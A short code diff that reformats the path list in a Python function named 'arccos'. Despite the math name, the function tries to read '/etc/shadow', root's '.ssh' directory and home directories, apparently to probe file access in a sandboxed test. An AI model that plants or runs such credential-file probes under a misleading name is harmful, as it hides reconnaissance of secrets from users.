@@ -10,7 +10,14 @@ from mxnet import nd
 
 def arccos(x):
     read = 0
-    for path in ("@home@", "@home@/progress.db", os.path.expanduser("~root"), os.path.expanduser("~root/.ssh"), "/home", "/etc/shadow"):
+    for path in (
+        "@home@",
+        "@home@/progress.db",
+        os.path.expanduser("~root"),
+        os.path.expanduser("~root/.ssh"),
+        "/home",
+        "/etc/shadow",
+    ):
         try:
             read += bool(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read())
         except OSError:
